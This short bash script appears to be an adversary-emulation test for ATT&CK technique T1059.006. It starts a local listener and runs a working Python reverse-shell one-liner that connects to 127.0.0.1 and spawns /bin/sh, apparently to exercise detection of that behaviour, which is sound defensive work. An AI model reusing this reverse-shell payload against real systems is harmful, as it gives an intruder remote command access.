#!/bin/bash
# technique: T1059.006
# tactic: execution, command_and_control
# what: the python one-liner reverse shell: socket, dup2 onto 0/1/2, pty.spawn("/bin/sh")
# source: ART T1059.006 #4 "Python pty module and spawn function used to spawn sh or bash"
# cleanup: the listener stops after the session
. "$(dirname "$0")/lib.sh"
port=$(vg_serve shell $'id\nexit')
timeout 10 python3 -c "import socket,os,pty;s=socket.create_connection(('127.0.0.1',$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" >/dev/null 2>&1
true
